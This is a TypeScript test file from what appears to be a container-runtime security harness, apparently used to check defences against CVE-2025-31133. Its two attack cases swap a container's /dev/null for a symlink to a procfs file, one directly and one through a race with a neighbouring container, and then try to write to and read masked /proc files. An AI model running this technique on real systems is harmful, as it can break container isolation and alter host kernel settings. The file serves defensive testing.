// T05, T06: a /dev/null of the container that is a link to a file of procfs (CVE-2025-31133).
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { symlinkSync } from 'node:fs';
import { MOUNTS } from '../harness/caisson.ts';
import { type Arena, isOwnFailure, races } from './arena.ts';
import { attack } from './attack.ts';
import { CANARY_SYSCTL } from './oracle.ts';
import { neighbour } from './race.ts';

const MASKED = ['/proc/timer_list', '/proc/keys', '/proc/interrupts'];

/** A /dev that containers bind: a true null, and the link that is to take its place. */
function trickDevice(arena: Arena): string {
  return arena.volume('dev', (path) => {
    execFileSync('mknod', ['-m', '666', `${path}/null`, 'c', '1', '3']);
    symlinkSync(CANARY_SYSCTL, `${path}/trick`);
  });
}

const withDevice = (source: string) => [
  ...MOUNTS.filter(({ destination }) => !String(destination).startsWith('/dev')),
  { destination: '/dev', type: 'bind', source, options: ['rbind', 'rw'] },
];

/** Tries to write a number through every masked file, and says what it can read there. */
const SCRIPT = `for each in ${MASKED.join(' ')}; do
  (echo 46 > $each) 2>/dev/null; (test -s $each || read line < $each) 2>/dev/null && echo "$each can be read: $(head -c 60 $each)"
  test -c $each || echo "$each is no device"
done`;

function victim(arena: Arena, device: string): string[] {
  const parts = { mounts: withDevice(device), linux: { maskedPaths: MASKED } };
  const { code, stdout, stderr } = arena.oci(parts, SCRIPT);
  if (code !== 0) assert.ok(isOwnFailure({ code, stdout, stderr }), stderr);
  return stdout.split('\n').filter((line) => line !== '');
}

attack({
  id: 'T05',
  title: 'masks are not made of what the image has as /dev/null',
  modes: ['R', 'U'],
  caught: [['masks made of the /dev/null of the root', 'R']],
  run: (arena) => {
    const device = trickDevice(arena);
    execFileSync('mv', [`${device}/null`, `${device}/true-null`]);
    execFileSync('mv', [`${device}/trick`, `${device}/null`]);
    return victim(arena, device);
  },
});

attack({
  id: 'T06',
  title: 'another container exchanges /dev/null while masks are made',
  modes: ['R', 'U'],
  caught: [['masks made of the /dev/null of the root', 'R']],
  run: async (arena) => {
    const device = trickDevice(arena);
    const mounts = [
      ...MOUNTS,
      { destination: '/tmp', type: 'bind', source: device, options: ['rbind', 'rw'] },
    ];
    const swapper = await neighbour(arena, { mounts }, 'exec probe swap /tmp/null /tmp/trick', 'swapping');
    const evidence: string[] = [];
    for (let i = 0; i < races(arena) && evidence.length === 0; i++) evidence.push(...victim(arena, device));
    assert.doesNotMatch(await swapper.end(), /renameat2/);
    return evidence;
  },
});
